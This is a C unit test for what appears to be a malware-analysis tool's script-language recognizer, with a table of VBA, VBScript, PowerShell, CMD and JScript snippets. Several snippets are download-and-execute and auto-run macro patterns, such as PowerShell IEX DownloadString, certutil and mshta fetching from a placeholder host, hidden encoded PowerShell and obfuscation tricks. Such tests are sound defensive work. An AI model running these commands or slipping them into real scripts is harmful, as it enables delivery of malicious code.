#include "core/interp.h"

#include "test.h"

static const struct {
    enum sk_language language;
    const char *source;
} snippets[] = {
    {SK_LANG_VBA, "Sub AutoOpen()\n  Shell \"calc.exe\"\nEnd Sub\n"},
    {SK_LANG_VBA, "Function F()\n F = 1\nEnd Function\n"},
    {SK_LANG_VBA, "Function F() As String\nF = \"a\" & Chr(66)\nEnd Function"},
    {SK_LANG_VBA, "Attribute VB_Name = \"Module1\"\nSub a()\nEnd Sub"},
    {SK_LANG_VBA, "Private Declare PtrSafe Function Sleep Lib \"kernel32\" (ByVal n As Long)"},
    {SK_LANG_VBA,
     "Private Sub Document_Open()\nCreateObject(\"WScript.Shell\").Run \"x\"\nEnd Sub"},
    {SK_LANG_VBA, "Sub Workbook_Open()\nSet o = CreateObject(\"WScript.Shell\")\no.Run s\nEnd Sub"},
    {SK_LANG_VBA, "Option Explicit\nSub T()\nDim i As Integer\nFor i = 1 To 3\nNext i\nEnd Sub"},
    {SK_LANG_VBA, "Sub a()\n Shell \"powershell -e $env:x IEX [char]65 -join\"\nEnd Sub"},
    {SK_LANG_VBA, "Sub A()\nDebug.Print ActiveDocument.Name\nEnd Sub"},
    {SK_LANG_VBA,
     "Sub AutoOpen()\nWith CreateObject(\"MSXML2.XMLHTTP\")\n.Open \"GET\", u\nEnd With"
     "\nEnd Sub"},
    {SK_LANG_VBA, ""},
    {SK_LANG_VBSCRIPT, "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\"\n"},
    {SK_LANG_VBSCRIPT, "WScript.Echo \"hi\"\n"},
    {SK_LANG_VBSCRIPT, "Dim a\na = Chr(65) & Chr(66)\nExecute a\n"},
    {SK_LANG_VBSCRIPT, "On Error Resume Next\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\n"},
    {SK_LANG_VBSCRIPT, "ExecuteGlobal StrReverse(\"1 xoBgsM\")"},
    {SK_LANG_VBSCRIPT, "Function D(s)\nD = StrReverse(s)\nEnd Function\nExecute D(\"x\")\n"},
    {SK_LANG_VBSCRIPT, "Class C\nPublic Sub R\nMsgBox 1\nEnd Sub\nEnd Class\nSet c = New C\nc.R\n"},
    {SK_LANG_VBSCRIPT, "x=1:y=2:Execute(\"z=3\")"},
    {SK_LANG_VBSCRIPT, "<script language=\"VBScript\">MsgBox 1</script>"},
    {SK_LANG_VBSCRIPT, "<html><head><hta:application><script language=vbscript>x</script></html>"},
    {SK_LANG_VBSCRIPT, "<job><script language=\"VBScript\"><![CDATA[ x ]]></script></job>"},
    {SK_LANG_VBSCRIPT, "CreateObject(\"WScript.Shell\").Run \"calc.exe\", 0, False"},
    {SK_LANG_POWERSHELL, "$a = 'SE' + 'KI'\nWrite-Output $a"},
    {SK_LANG_POWERSHELL, "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"},
    {SK_LANG_POWERSHELL, "('OHSIKES'[-1..-7]) -join ''"},
    {SK_LANG_POWERSHELL, "\"{2}{0}{1}\" -f 'KIS','HO','SE'"},
    {SK_LANG_POWERSHELL, "([char[]](83,69,75)|%{[char]($_ -bxor 7)}) -join ''"},
    {SK_LANG_POWERSHELL, "Start-Process calc.exe"},
    {SK_LANG_POWERSHELL,
     "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))"},
    {SK_LANG_POWERSHELL, "Write-Output SEKISHO"},
    {SK_LANG_POWERSHELL, "$env:comspec[4,24,25]-join''"},
    {SK_LANG_POWERSHELL, "&('i'+'ex') 'Write-Host 1'"},
    {SK_LANG_POWERSHELL, "function f($x) { return $x + 1 }\nf 2"},
    {SK_LANG_POWERSHELL,
     "foreach ($u in 'a@b'.Split('@')) { try { $c.DownloadFile($u, $p); break } catch { } }"},
    {SK_LANG_CMD, "@echo off\nset x=1\necho %x%\n"},
    {SK_LANG_CMD, "cmd /c \"echo hi\""},
    {SK_LANG_CMD, "powershell -w hidden -e VwByAGkA"},
    {SK_LANG_CMD, "set x=SEKISHO&&call echo %x:~1,2%"},
    {SK_LANG_CMD, "for /f \"delims=x tokens=2\" %g in ('ftype^|findstr lCm') do echo %g"},
    {SK_LANG_CMD, "certutil -urlcache -f http://a.example/x x.exe"},
    {SK_LANG_CMD, "e^c^h^o SEKISHO & echo hi"},
    {SK_LANG_CMD, "%ComSpec% /c calc"},
    {SK_LANG_CMD, "setlocal enabledelayedexpansion\ngoto :eof\n"},
    {SK_LANG_CMD, "if exist a.txt del a.txt\n"},
    {SK_LANG_CMD, "mshta http://a.example/x.hta"},
    {SK_LANG_CMD, "start /b calc.exe"},
    {SK_LANG_JSCRIPT, "var a = new ActiveXObject('WScript.Shell'); a.Run('calc');"},
    {SK_LANG_JSCRIPT, "(function(){var x=1;return x})()"},
    {SK_LANG_JSCRIPT, "var s = 'a'.split('').reverse().join('');\neval(s);"},
    {SK_LANG_JSCRIPT, "this['ev'+'al'](String.fromCharCode(97))"},
    {SK_LANG_JSCRIPT, "function f(a) {\n  return a + 1;\n}\nf(2);"},
    {SK_LANG_JSCRIPT, "/*@cc_on @if(@_jscript) alert(1); @end @*/"},
    {SK_LANG_JSCRIPT, "[]['constructor']['constructor'](\"return 1\")()"},
    {SK_LANG_JSCRIPT, "WScript.CreateObject(\"WScript.Shell\").Run(\"calc\");"},
    {SK_LANG_JSCRIPT, "for (var i = 0; i < 3; i++) { x += i; }"},
    {SK_LANG_JSCRIPT, "<script>alert(1)</script>"},
    {SK_LANG_JSCRIPT,
     "<?xml version='1.0'?><scriptlet><script language='JScript'>a</script></scriptlet>"},
    {SK_LANG_JSCRIPT, "<!-- a\nvar x = 1;\n// -->"},
    {SK_LANG_JSCRIPT, "try{throw 1}catch(e){WScript.Quit(0)}"},
    {SK_LANG_JSCRIPT, "unescape('%61%62')+(![]+[])[+[]]"},
};

static void each(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof snippets / sizeof snippets[0]; i++) {
        enum sk_language got = sk_recognise_language(sk_span_of_cstr(snippets[i].source));
        if (got != snippets[i].language)
            fail_msg("%s, not %s: %s", sk_language_name(got),
                     sk_language_name(snippets[i].language), snippets[i].source);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(each)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
